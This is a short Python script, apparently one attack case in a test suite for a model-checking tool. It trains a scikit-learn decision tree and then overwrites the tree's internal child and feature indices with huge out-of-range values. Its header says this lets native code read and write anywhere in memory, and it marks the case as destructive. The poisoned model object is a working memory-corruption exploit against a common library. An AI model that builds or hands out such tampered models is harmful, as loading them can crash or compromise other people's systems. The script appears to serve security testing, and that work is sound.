# attack: a model whose arrays do not fit its shapes: trees with links out of their arrays make native code read and write anywhere.
# target: model-test
# also loses: all
# destructive
# %% model
from sklearn.tree import DecisionTreeRegressor

model = DecisionTreeRegressor(max_depth=2).fit(trees[INPUTS], trees["crop"])
state = model.tree_.__getstate__()
state["nodes"]["left_child"][0] = 2**40
state["nodes"]["right_child"][0] = -(2**40)
state["nodes"]["feature"][:] = 2**30
model.tree_.__setstate__(state)
